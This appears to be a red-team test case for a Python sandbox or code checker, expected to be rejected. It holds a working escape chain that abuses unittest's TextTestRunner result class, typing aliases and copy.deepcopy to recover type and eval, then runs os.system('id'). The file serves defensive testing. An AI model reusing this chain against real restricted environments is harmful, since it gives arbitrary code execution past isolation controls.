# expect: reject method
# line: 38
# verified: reaches its goal under plain python3 (3.11) in a temp dir (type, eval, id run)
# why: fourteenth red team (14b), family T: ours: TestSuite(tests()) with a def returning [Plain], run by a TextTestRunner whose resultclass is the program's closed class; the result runner.run returns holds type

import unittest
import typing
import copy

class Res:
    shouldStop = False

    def __init__(self, stream, descriptions, verbosity):
        self.failures = []
        self.errors = []
        self.testsRun = 0
        self.skipped = []
        self.expectedFailures = []
        self.unexpectedSuccesses = []

    def previous(self):
        return self._previousTestClass

    def wasSuccessful(self):
        return True

    def printErrors(self):
        pass

class Plain:
    def __init__(self, result):
        self.r = result

def tests():
    return [Plain]

def make():
    return unittest.TestSuite(tests())

r = unittest.TextTestRunner(resultclass=Res, verbosity=0).run(make())
T = r.previous()
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
ev("__import__(\"os\").system(\"id\")")
